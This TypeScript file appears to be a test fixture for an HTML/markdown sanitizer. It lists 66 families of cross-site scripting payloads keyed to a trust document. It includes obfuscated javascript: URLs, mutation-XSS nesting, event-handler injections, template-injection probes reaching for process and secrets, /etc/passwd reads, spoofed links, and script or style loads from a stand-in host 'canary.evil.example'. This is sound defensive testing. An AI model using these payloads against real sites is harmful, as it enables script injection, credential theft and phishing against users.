/** Where a payload calls home; nothing answers there, and a request to it is a finding. */
export const CANARY_HOST = "canary.evil.example";

const RUN = "window.__ran=1";
const HOME = `https://${CANARY_HOST}/x`;
const lots = (text: string, times: number) => text.repeat(times);

/**
 * The families of `docs/trust.md` (B14), each with texts that somebody might store. `RUN` leaves a mark in the window that runs it;
 * the rest would fetch, cover, clobber or lead away.
 */
export const PAYLOADS: Record<string, readonly string[]> = {
  X1: [`<script>${RUN}</script>`, `<script src="${HOME}.js"></script>`],
  X2: [`<ScRiPt >${RUN}</sCrIpT >`, `<script\t\n>${RUN}</script\t>`],
  X3: [`<script>${RUN}`, `<script>${RUN}//`],
  X4: [`<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>script>${RUN}</script>`],
  X5: [`<img src=x onerror="${RUN}">`, `<img src="${HOME}.png">`],
  X6: [`<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`],
  X7: [
    `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text x=20 y=20>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${RUN}">`,
  ],
  X8: [`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`],
  X9: [`<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`],
  X10: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  ],
  X11: [`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<title><img title="</title><img src=x onerror=${RUN}>"></title>`],
  X12: [`<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<xmp></xmp><img src=x onerror=${RUN}>`],
  X13: [
    `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
    `<style><p title="</style><img src=x onerror=${RUN}>">`,
    `<noembed><p title="</noembed><img src=x onerror=${RUN}>"><noframes><p title="</noframes><img src=x onerror=${RUN}>"><plaintext><img src=x onerror=${RUN}>`,
  ],
  X14: [`<template shadowrootmode=open><img src=x onerror="${RUN}"></template>`, `<div><template><script>${RUN}</script></template></div>`],
  X15: [`<!--><img src=x onerror="${RUN}">-->`, `<!--x--!><img src=x onerror="${RUN}">`, `<!-- -- ><img src=x onerror="${RUN}">`],
  X16: [
    `<![CDATA[<img src=x onerror="${RUN}">]]>`,
    `<?xml version="1.0"?><img src=x onerror="${RUN}">`,
    `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`,
  ],
  X17: [`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  X18: [`<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`],
  X19: [`<object data="${HOME}"></object>`, `<embed src="javascript:${RUN}">`, `<applet code="${HOME}"></applet>`],
  X20: [`<base href="https://${CANARY_HOST}/">`],
  X21: [`<meta http-equiv="refresh" content="0;url=${HOME}">`],
  X22: [`<link rel=stylesheet href="${HOME}.css">`, `<link rel=preload as=script href="${HOME}.js">`],
  X23: [`<form action="${HOME}"><button formaction="javascript:${RUN}">Sign in</button></form>`],
  X24: [`<input autofocus onfocus="${RUN}">`, `<p tabindex=0 autofocus onfocus="${RUN}">x</p>`],
  X25: [`<details open ontoggle="${RUN}">x</details>`],
  X26: [`<audio src="${HOME}" onerror="${RUN}" autoplay></audio>`, `<video><source onerror="${RUN}" src="${HOME}"></video>`],
  X27: [`<body onpageshow="${RUN}" onload="${RUN}">`, `<marquee onstart="${RUN}">x</marquee>`],
  X28: [
    `<div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p>x</button>`,
    `<p contenteditable onfocus="${RUN}" autofocus>x</p>`,
  ],
  X29: [`<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`, `<p onscrollend="${RUN}" ontransitionend="${RUN}">x</p>`],
  X30: [
    `<p style="background:url(${HOME});width:expression(${RUN})">x</p>`,
    `<style>@import "${HOME}.css";</style>`,
    `<p style="position:fixed;inset:0;z-index:9999">Cover</p>`,
  ],
  X31: [`<a id=location name=body href="/x">x</a>`, `<img name=getElementById><form id=cookie></form>`, `<p id="__remixContext">x</p>`],
  X32: [`<p data-island="poll-fragment" data-url="${HOME}">x</p>`, `<button data-action="delete">x</button>`],
  X33: [`<a href="javascript:${RUN}">x</a>`, `[x](javascript:${RUN})`],
  X34: [
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href="\u0001javascript:${RUN}">x</a>`,
    `<a href="java\nscript:${RUN}">x</a>`,
    `<a href="java\u0000script:${RUN}">x</a>`,
  ],
  X35: [
    `<a href="&#106&#97&#118&#97script:${RUN}">x</a>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73cript:${RUN}">x</a>`,
    `[x](&#106;avascript:${RUN})`,
  ],
  X36: [`<a href="java&Tab;script&colon;${RUN}">x</a>`, `<a href="java&NewLine;script:${RUN}">x</a>`],
  X37: [`<a href="vbscript:msgbox(1)">x</a>`, `[x](vbscript:msgbox)`],
  X38: [`<a href="data:text/html,<script>${RUN}</script>">x</a>`, `[x](data:image/svg+xml;base64,PHN2Zz4=)`],
  X39: [`<a href="blob:https://x/y">x</a>`, `<a href="file:///etc/passwd">x</a>`, `[x](ms-word:ofe|u|${HOME})`],
  X40: [`<a href="//${CANARY_HOST}/x">x</a>`, `[x](/\\${CANARY_HOST}/x)`, `<a href="/\\${CANARY_HOST}">x</a>`],
  X41: [`[x](https://nhs.uk@${CANARY_HOST}/)`, `<a href="https://nhs.uk:pw@${CANARY_HOST}/">x</a>`],
  X42: [`https://nһs.uk/`, `\u202Egnp.exe\u202C and [\u202Eku.shn\u202C](${HOME})`],
  X43: [`<scr\u200Bipt>${RUN}</scr\u200Bipt>`, `<\u200Bimg src=x onerror=${RUN}>`],
  X44: [`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\uFEFF<script>${RUN}</script>`, "%c0%bcscript%c0%be"],
  X45: [`<scr\u0000ipt>${RUN}</script>`, `<img src=x on\u0000error=${RUN}>`],
  X46: [`<a href="/ok" href="javascript:${RUN}">x</a>`, `<a href="javascript:${RUN}" href="/ok">x</a>`],
  X47: [`<img src=x onerror=${RUN}>`, `<img src=\`x\` onerror=\`${RUN}\`>`],
  X48: [`<img/src=x/onerror=${RUN}>`, `<svg/onload=${RUN}>`],
  X49: [`" onmouseover="${RUN}" x="`, `' onfocus='${RUN}' autofocus='`, `"><script>${RUN}</script>`],
  X50: [`[x](JaVaScRiPt:${RUN})`, `![x](javascript:${RUN})`, `<javascript:${RUN}>`],
  X51: [`[x](/y "\\"><script>${RUN}</script>")`, `[x](<javascript:${RUN}>)`, `[x](/y 'title" onmouseover="${RUN}')`],
  X52: [`[x][y]\n\n[y]: javascript:${RUN}`, `[^x]\n\n[^x]: <script>${RUN}</script>`],
  X53: [`<https://x.example/"onmouseover="${RUN}>`, `www.x.example/"onmouseover="${RUN}`, `<javascript:${RUN}//@x.example>`],
  X54: [`![![x](javascript:${RUN})](data:x)`, `![x" onerror="${RUN}](${HOME}.png)`],
  X55: [`\`\`\`html onload=${RUN}"><script>${RUN}</script>\nx\n\`\`\``, `~~~<script>${RUN}</script>\nx\n~~~`],
  X56: [
    `<div>\n\n*x*<script>${RUN}</script>\n\n</div>`,
    `| a | <img src=x onerror=${RUN}> |\n|---|---|\n| <script>${RUN}</script> | b |`,
    `<table background="${HOME}"><td background="${HOME}">x`,
  ],
  X57: [`## constructor\n\n## __proto__\n\n## "><script>${RUN}</script>`, `## location\n\n## cookie`],
  X58: [`@<script>${RUN}</script> :<img src=x onerror=${RUN}>:`, `> <script>${RUN}</script>\n>\n> quoted`],
  X59: [
    `</mj-text></mj-column><mj-raw><script>${RUN}</script></mj-raw>`,
    `<!--[if mso]><script>${RUN}</script><![endif]-->`,
    `<mj-include path="/etc/passwd" />`,
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the payload
  X60: ["{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('return process')()}}", "{{#with env}}{{SECRETS}}{{/with}}"],
  X61: [`</script><script>${RUN}</script>`, `<!--<script>`, `\u2028\u2029${RUN}`],
  X62: [`=HYPERLINK("${HOME}")`, `BEGIN:VEVENT\r\nSUMMARY:x`, `"><svg onload=${RUN}>.png`],
  X63: [`/%3Cscript%3E${RUN}%3C/script%3E`, `?q="><script>${RUN}</script>`],
  X64: [`]]><script>${RUN}</script><![CDATA[`],
  X65: [`GIF89a/*<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>*/=1`],
  X66: [
    `<p class=MsoNormal style='mso-margin:0'><o:p><script>${RUN}</script></o:p></p>`,
    `${lots("<b>", 3000)}x`,
    `${lots("> ", 500)}x`,
    `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  ],
};

export const ALL_PAYLOADS: readonly (readonly [family: string, text: string])[] = Object.entries(PAYLOADS).flatMap(([family, texts]) =>
  texts.map((text) => [family, text] as const),
);
